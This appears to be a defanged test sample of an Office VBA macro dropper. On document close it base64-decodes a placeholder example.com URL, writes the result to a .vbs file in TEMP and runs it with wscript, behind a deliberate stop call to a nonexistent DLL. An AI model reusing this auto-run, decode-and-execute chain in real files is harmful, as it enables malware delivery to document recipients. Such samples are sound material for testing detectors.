Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Sub AutoClose()
    StopHere
    Dim document As Object, node As Object
    Set document = CreateObject("Microsoft.XMLDOM")
    Set node = document.createElement("b64")
    node.DataType = "bin.base64"
    node.Text = "aHR0cDovL2V4YW1wbGUuY29tL3N0YWdlL2hhcm1sZXNzLW5vbmUudHh0"
    Save StrConv(node.nodeTypedValue, vbUnicode)
End Sub
Private Sub Save(ByVal text As String)
    Open Environ("TEMP") & "\harmless-none.vbs" For Output As #1
    Print #1, text
    Close #1
    CreateObject("WScript.Shell").Run "wscript " & Environ("TEMP") & "\harmless-none.vbs"
End Sub
